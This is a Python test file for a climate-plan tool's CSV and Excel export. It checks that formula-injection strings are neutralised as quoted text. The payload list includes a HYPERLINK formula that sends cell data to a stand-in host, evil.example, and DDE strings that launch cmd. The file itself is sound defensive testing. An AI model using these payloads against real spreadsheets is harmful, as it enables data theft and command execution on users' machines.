"""Exports never let text run as a spreadsheet formula (CSV and Excel), on the known payloads,
while numbers and ordinary text come out unchanged."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nettonul.engine.io.export import csv_text, is_formula_like, neutralise_workbook, safe_text, xlsx_bytes
from nettonul.reports.excel import render_excel
from nettonul.reports.snapshot import Snapshot, freeze

#: Payloads of CSV/formula injection (OWASP), as a user could type them into a plan field.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
PLAIN = ("Varmepumper i boliger", "-12,5", "+3 %", "-1.234,5", "2030", "a = b", "e-mail@kommune.dk", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_formula_like_and_made_safe(payload: str) -> None:
    assert is_formula_like(payload)
    assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_signed_numbers_are_left_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert safe_text(text) == text


@given(st.text())
def test_safe_text_never_starts_a_formula(text: str) -> None:
    out = safe_text(text)
    assert not is_formula_like(out)
    assert out in (text, "'" + text)


def test_csv_text_neutralises_text_and_keeps_numbers() -> None:
    text = csv_text([["title", "t"], [PAYLOADS[0], -12.5], ["Cykelstier", 3]], delimiter=";")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["title", "t"], ["'" + PAYLOADS[0], "-12.5"], ["Cykelstier", "3"]]


def test_workbook_cells_become_quote_prefixed_text() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([*PAYLOADS, "ordinary", -5.0])
    assert neutralise_workbook(wb) == len(PAYLOADS)
    buf = io.BytesIO()
    wb.save(buf)
    back = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert back is not None
    cells = next(iter(back.iter_rows()))
    for cell, payload in zip(cells, PAYLOADS, strict=False):
        assert cell.value == payload  # the text exactly as typed
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert cells[-2].value == "ordinary"
    assert cells[-1].value == -5.0


def test_yearly_report_workbook_has_no_formula_from_plan_fields(snapshot: Snapshot) -> None:
    content = json.loads(snapshot.text)
    for k, action in enumerate(content["actions"]):
        action["title"] = PAYLOADS[k % len(PAYLOADS)]
        action["owner"] = PAYLOADS[(k + 1) % len(PAYLOADS)]
    content["plan"]["name"] = PAYLOADS[1]
    hostile = freeze(content, date(2026, 1, 15))
    wb = openpyxl.load_workbook(io.BytesIO(render_excel(hostile, "da")))
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    titles = [r[1] for r in wb["Tiltag"].iter_rows(min_row=2, values_only=True)]
    assert titles[0] == PAYLOADS[0]  # shown as typed, as text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_table_keeps_every_payload_as_text_and_numbers_as_numbers(payload: str) -> None:
    data = xlsx_bytes([["title", "t CO2e"], [payload, 1234.5], ["-12,5", -3]], sheet="x" * 40,
                      number_format=[None, "#,##0"])
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws.title == "x" * 31  # Excel's limit
    assert (ws["A2"].value, ws["A2"].data_type) == (payload, "s")
    assert ws["A2"].quotePrefix or not is_formula_like(payload)
    assert (ws["B2"].value, ws["B2"].number_format) == (1234.5, "#,##0")
    assert (ws["A3"].value, ws["B3"].value) == ("-12,5", -3)  # a plain signed number stays as written
    assert ws["A1"].font.bold
